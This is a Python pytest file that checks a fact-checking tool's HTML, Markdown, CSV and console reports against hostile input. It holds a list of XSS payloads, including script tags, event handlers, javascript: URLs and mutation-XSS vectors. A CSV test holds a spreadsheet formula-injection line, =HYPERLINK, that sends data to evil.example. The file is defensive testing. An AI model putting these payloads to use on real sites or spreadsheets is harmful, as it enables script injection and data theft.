"""Hostile text in reports: XSS payloads in articles, file names and rules never run (checked in headless
Chromium, through the DOM), Markdown stays literal, CSV cells never start a formula, --out errors exit 2."""
from __future__ import annotations

import csv
import json
import re
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

from factcheck import cli
from factcheck.model import Claim, Document, Finding, Skipped, stable_id
from factcheck.pipeline import Result
from factcheck.report import summary_table, to_html, to_markdown, write_reports

CHROMIUM = Path("/usr/bin/chromium")
needs_chromium = pytest.mark.skipif(not CHROMIUM.exists(), reason="/usr/bin/chromium is missing (Debian package "
                                                                  "'chromium')")
TITLE = "factcheck report"

# Each payload, if it ran, would retitle the page or add an element with id "pwned".
PAYLOADS = [
    "<script>document.title='PWNED'</script>",
    "</script><script>document.title='PWNED'</script>",
    "<img src=x onerror=\"document.title='PWNED'\">",
    "<svg onload=\"document.title='PWNED'\"><circle id=\"pwned\"/></svg>",
    "\"><img src=x onerror=document.title='PWNED' id=pwned>",
    "'><img src=x onerror=document.title='PWNED' id=pwned>",
    "\" onmouseover=\"document.title='PWNED'\" id=\"pwned",
    "<a href=\"javascript:document.title='PWNED'\" id=\"pwned\">click</a>",
    "<iframe id=\"pwned\" srcdoc=\"<script>parent.document.title='PWNED'</script>\"></iframe>",
    "<div id=\"pwned\" style=\"width:expression(document.title='PWNED');background:url(javascript:x)\">css</div>",
    "<style>@import url(javascript:x);body{background:url(x)}</style>",
    "<!-- <p id=\"pwned\">hidden</p> the rest of the report is a comment now",
    "<![CDATA[<p id=\"pwned\">cdata</p>]]>",
    "\u2028document.title='PWNED'\u2029//\u2028",
    "<body onload=\"document.title='PWNED'\">",
    "<details open ontoggle=\"document.title='PWNED'\" id=\"pwned\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='PWNED'\">",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='PWNED'>\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:document.title='PWNED'\">",
    "<base href=\"javascript:/\"><form id=\"pwned\" action=\"javascript:x\"><button>go</button></form>",
    "<textarea></textarea><template><p id=\"pwned\"></template>",
    "&lt;script&gt;document.title='PWNED'&lt;/script&gt; &#60;img&#62;",
    "a \\| b \\\\| c [link](javascript:x) ![img](http://tracker.example/p.png) `code` *bold*",
]
# The only elements the report itself writes.
REPORT_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "table", "tbody", "tr",
               "th", "td", "fieldset", "legend", "label", "input", "section", "article", "header", "span", "div",
               "blockquote", "cite", "mark", "script"}


def hostile_result() -> Result:
    """One document per payload: the payload in its file name, text, sentence, subject, claim type,
    qualifiers, unit and scale word, in a finding's message, and in a skipped file's name and reason."""
    documents, claims = [], []
    for i, payload in enumerate(PAYLOADS):
        text = f"Meldung {i}\n\nLaut Acme waren es {payload} Nutzer im Jahr.\n"
        document = Document(doc=f"news/{i:02d}{payload}.txt", text=text, lang="de")
        start = text.index(payload)
        claims.append(Claim(id=stable_id("c", i), doc=document.doc, start=start, end=start + len(payload), line=3,
                            col=start - text.index("Laut") + 1, text=payload, sentence=text.split("\n")[2],
                            kind="quantity", value=float(i + 1), unit=payload, subject=f"Acme {payload}",
                            claim_type="acme_users", qualifiers={"scope": payload}, scale_word=payload))
        documents.append(document)
    findings = [Finding(id=stable_id("f", i), severity=("error", "warning", "info")[i % 3], check="contradiction",
                        claim_type=payload, subject=payload, claims=[claims[i].id, claims[(i + 1) % len(claims)].id],
                        message=f"{payload} vs {PAYLOADS[(i + 1) % len(PAYLOADS)]}: the values differ.")
                for i, payload in enumerate(PAYLOADS)]
    skipped = [Skipped(doc=f"news/{payload}.bin", reason=f"not a text file ({payload})") for payload in PAYLOADS]
    return Result(documents=documents, claims=claims, findings=findings, skipped=skipped)


def render_in_chromium(page: Path, profile: Path) -> tuple[str, str]:
    """The DOM after the page's scripts ran, and the browser's console log (CSP violations land there)."""
    done = subprocess.run([str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu",
                           "--disable-background-networking", "--disable-component-update", "--disable-sync",
                           "--no-first-run", f"--user-data-dir={profile}", "--enable-logging=stderr", "--v=0",
                           "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr[-2000:]
    console = "\n".join(line for line in done.stderr.splitlines() if ":CONSOLE" in line)
    return done.stdout, console


class _Elements(HTMLParser):
    """The tags, ids and visible text of a DOM dump."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.ids: list[str] = []
        self.text: list[str] = []
        self._hidden = 0

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.ids += [value for name, value in attrs if name == "id"]
        self._hidden += tag in ("script", "style", "title")

    def handle_endtag(self, tag):
        self._hidden -= tag in ("script", "style", "title")

    def handle_data(self, data):
        if not self._hidden:
            self.text.append(data)


def parse(dom: str) -> _Elements:
    elements = _Elements()
    elements.feed(dom)
    return elements


def assert_nothing_ran_and_every_payload_is_text(dom: str, payloads=PAYLOADS) -> None:
    elements = parse(dom)
    assert re.search(r"<title>(.*?)</title>", dom).group(1) == TITLE
    assert "pwned" not in elements.ids
    assert set(elements.tags) <= REPORT_TAGS, set(elements.tags) - REPORT_TAGS
    assert elements.tags.count("script") == 1 and elements.tags.count("style") == 1
    text = "".join(elements.text)
    for payload in payloads:
        assert payload in text, f"{payload!r} is not shown as text"


@needs_chromium
def test_no_payload_runs_and_each_is_shown_as_text_with_the_policy_quiet(tmp_path):
    page = tmp_path / "report.html"
    page.write_text(to_html.render(hostile_result()), encoding="utf-8")

    dom, console = render_in_chromium(page, tmp_path / "profile")

    assert_nothing_ran_and_every_payload_is_text(dom)
    assert "Content Security Policy" not in console       # the page's own script and style pass the policy
    assert 'class="finding error"' in dom and 'id="findings"' in dom


@needs_chromium
def test_escaping_alone_keeps_every_payload_inert_without_the_policy(tmp_path):
    page = tmp_path / "report.html"
    html = to_html.render(hostile_result())
    without_policy = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n', "", html)
    assert without_policy != html
    page.write_text(without_policy, encoding="utf-8")

    dom, _ = render_in_chromium(page, tmp_path / "profile")

    assert_nothing_ran_and_every_payload_is_text(dom)


@needs_chromium
def test_the_policy_blocks_markup_that_escaping_would_have_missed(tmp_path):
    page = tmp_path / "report.html"
    injected = ("<img src=x onerror=\"document.title='PWNED'\"><script>document.title='PWNED'</script>"
                "<a id=\"link\" href=\"https://tracker.example/\">x</a>")
    page.write_text(to_html.render(hostile_result()).replace("<h1>", injected + "<h1>", 1), encoding="utf-8")

    dom, console = render_in_chromium(page, tmp_path / "profile")

    assert re.search(r"<title>(.*?)</title>", dom).group(1) == TITLE
    assert "Executing inline script violates" in console
    assert "Executing inline event handler violates" in console


def write_hostile_rules(rules: Path) -> None:
    """An entity, a description, a qualifier default and a qualifier value that hold markup."""
    rules.mkdir()
    (rules / "entities.yaml").write_text(
        "entities:\n"
        "  - name: \"Acme<img src=x onerror=\\\"document.title='PWNED'\\\">\"\n"
        "    kind: company\n"
        "    aliases: [Acme]\n", encoding="utf-8")
    (rules / "acme_users.yaml").write_text(
        "id: acme_users\n"
        "description: \"Acme users <script>document.title='PWNED'</script>\"\n"
        "subject: \"Acme<img src=x onerror=\\\"document.title='PWNED'\\\">\"\n"
        "claim: {kinds: [quantity, number], units: [Nutzer]}\n"
        "qualifiers:\n"
        "  scope:\n"
        "    default: \"<svg onload=\\\"document.title='PWNED'\\\">\"\n"
        "    values:\n"
        "      \"\\\"><b id=pwned>US\": {de: [in den USA]}\n"
        "compare: {tolerance: 0.05}\n"
        "examples:\n"
        "  - text: Acme hat [[100 Millionen Nutzer]] in den USA.\n"
        "    expect: {value: 1.0e+8}\n", encoding="utf-8")


@needs_chromium
def test_a_real_run_with_hostile_file_names_articles_and_rules_renders_inert(tmp_path, monkeypatch, capsys):
    news = tmp_path / "news"
    news.mkdir()
    (news / "<b id=pwned onmouseover=alert(1)>a.txt").write_text(
        "---\ndate: 2024-03-01\n---\nAcme wächst\n\nAcme hat 100 Millionen Nutzer in den USA, "
        "<script>document.title='PWNED'</script>.\n",
        encoding="utf-8")
    (news / "\"><img src=x onerror=document.title=1>b.txt").write_text(
        "---\ndate: 2024-03-02\n---\nAcme wächst weiter\n\nAcme hat 300 Millionen Nutzer in den USA <svg onload=alert(1)>.\n"
        "Im Ausland hat Acme 50 Millionen Nutzer.\n", encoding="utf-8")
    write_hostile_rules(tmp_path / "rules")
    monkeypatch.chdir(tmp_path)

    code = cli.main(["run", "news", "--rules", "rules", "--out", "out", "--fail-on", "warning"])

    assert code == 1, capsys.readouterr().err          # the contradiction (no period stated: a warning)
    report = json.loads((tmp_path / "out" / "report.json").read_text(encoding="utf-8"))
    assert report["findings"][0]["check"] == "contradiction"
    dom, console = render_in_chromium(tmp_path / "out" / "report.html", tmp_path / "profile")
    assert_nothing_ran_and_every_payload_is_text(dom, [
        "news/<b id=pwned onmouseover=alert(1)>a.txt", "news/\"><img src=x onerror=document.title=1>b.txt",
        "Acme<img src=x onerror=\"document.title='PWNED'\">", "Acme users <script>document.title='PWNED'</script>",
        "scope=\"><b id=pwned>US", "scope=<svg onload=\"document.title='PWNED'\">"])
    assert "Content Security Policy" not in console


def unescaped(markdown: str, char: str) -> list[int]:
    """Offsets of char not escaped by a backslash (an even run of backslashes escapes nothing)."""
    return [m.end() - 1 for m in re.finditer(r"(\\*)" + re.escape(char), markdown) if len(m.group(1)) % 2 == 0]


def cells(row: str) -> list[str]:
    """A GitHub table row split at its unescaped pipes, as GitHub splits it."""
    bounds = unescaped(row, "|")
    return [row[a + 1:b].strip() for a, b in zip(bounds, bounds[1:])]


def test_markdown_shows_every_payload_literally_and_keeps_its_tables_whole():
    result = hostile_result()
    markdown = to_markdown.render(result)

    assert "<" not in markdown                           # no HTML at all: every < is &lt;
    assert unescaped(markdown, "[") == [] and unescaped(markdown, "]") == []    # no link, no image
    assert unescaped(markdown, "`") == []                # no code span
    overview = [line for line in markdown.splitlines() if re.match(r"\| \d+ +\|", line)]
    assert len(overview) == len(PAYLOADS)
    for n, line in enumerate(overview, 1):
        row = cells(line)
        assert len(row) == 6, line
        finding = result.findings[n - 1]
        assert row[:3] == [str(n), finding.severity, "contradiction"]


def test_markdown_emphasis_is_only_the_marked_claim():
    markdown = to_markdown.render(hostile_result())
    sentence_rows = [line for line in markdown.splitlines() if line.startswith("| sentence ")]

    assert len(sentence_rows) == len(PAYLOADS)
    for line in sentence_rows:
        assert len(unescaped(line, "*")) == 8, line       # "**" around the claim on each of the two sides
    assert r"Laut Acme waren es **a \\\| b \\\\\| c \[link\](javascript:x)" in markdown


def test_the_console_table_shows_control_characters_instead_of_sending_them():
    result = hostile_result()
    result.findings[0] = result.findings[0].model_copy(update={"subject": "A\x1b[2J"})
    result.findings[1] = result.findings[1].model_copy(update={"subject": "\u202eexe.txt\x07"})

    table = summary_table(result)

    assert "\x1b" not in table and "\x07" not in table and "\u202e" not in table
    assert "A\\u001b[2J" in table and "\\u202eexe.txt\\u0007" in table


def test_csv_cells_of_a_real_run_never_start_a_formula_and_numbers_stay_numbers(tmp_path, monkeypatch):
    article = ("Umsatz\n\n"
               "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Acme hat 100 Millionen Nutzer\")\n"
               "-5 Prozent betrug das Minus im Jahr 2022.\n"
               "+12 Prozent meldete Acme im Folgejahr.\n"
               "@Acme meldete 300 Filialen.\n")
    for name in ("=cmd.txt", "@x.txt"):
        (tmp_path / name).write_text(article, encoding="utf-8")
    monkeypatch.chdir(tmp_path)

    assert cli.main(["run", "=cmd.txt", "@x.txt", "--out", "out", "--format", "csv,json"]) == 0

    with open(tmp_path / "out" / "claims.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) >= 8
    for row in rows:
        for column, value in row.items():
            if column in ("value", "low", "high") and value:
                float(value)                                   # a number, never text
            else:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    by_text = {(r["doc"], r["text"]): r for r in rows}
    hyperlink = by_text[("'=cmd.txt", "100 Millionen Nutzer")]
    assert hyperlink["sentence"].startswith("'=HYPERLINK(")
    assert float(hyperlink["value"]) == 1e8
    minus = by_text[("'@x.txt", "'-5 Prozent")]
    assert minus["value"] == "-5.0" and minus["unit"] == "%"          # a negative value is a number
    plus = by_text[("'@x.txt", "12 Prozent")]
    assert plus["sentence"] == "'+12 Prozent meldete Acme im Folgejahr." and plus["value"] == "12.0"
    stores = by_text[("'=cmd.txt", "300 Filialen")]
    assert stores["sentence"] == "'@Acme meldete 300 Filialen."
    report = json.loads((tmp_path / "out" / "report.json").read_text(encoding="utf-8"))
    assert [d["doc"] for d in report["documents"]] == ["=cmd.txt", "@x.txt"]       # JSON keeps the text as is


@pytest.fixture
def article(tmp_path):
    path = tmp_path / "a.txt"
    path.write_text("Acme\n\nAcme hat 100 Millionen Nutzer in den USA.\n", encoding="utf-8")
    return str(path)


@pytest.mark.parametrize("out, reason", [
    ("{tmp}/a.txt", "not a folder (a file of that name exists)"),
    ("{tmp}/a.txt/reports", "cannot create the folder (Not a directory)"),
    ("/proc/factcheck-reports", "cannot create the folder (No such file or directory)"),
    ("/proc/self", "cannot write report.md (No such file or directory)"),
])
def test_an_out_folder_that_cannot_be_written_is_one_line_and_exit_2(article, tmp_path, capsys, out, reason):
    out = out.format(tmp=tmp_path)

    code = cli.main(["run", article, "--out", out])

    captured = capsys.readouterr()
    assert code == 2
    assert captured.err == f"{out}: error: {reason}\n"
    assert "reports:" not in captured.out
    assert Path(article).read_text(encoding="utf-8").startswith("Acme\n")        # the article is untouched


def test_a_report_folder_holding_a_folder_named_like_a_report_writes_nothing(article, tmp_path, capsys):
    out = tmp_path / "reports"
    (out / "report.html").mkdir(parents=True)

    code = cli.main(["run", article, "--out", str(out)])

    assert code == 2
    assert capsys.readouterr().err == f"{out}: error: cannot write report.html (Is a directory)\n"
    assert sorted(p.name for p in out.iterdir()) == ["report.html"]


def test_write_reports_never_lets_an_os_error_through(tmp_path):
    from factcheck.report import ReportError

    with pytest.raises(ReportError):
        write_reports(hostile_result(), "/proc/self/factcheck", ("md",))
    with pytest.raises(ReportError, match="embedded null byte"):
        write_reports(hostile_result(), str(tmp_path / "a\0b"), ("md",))
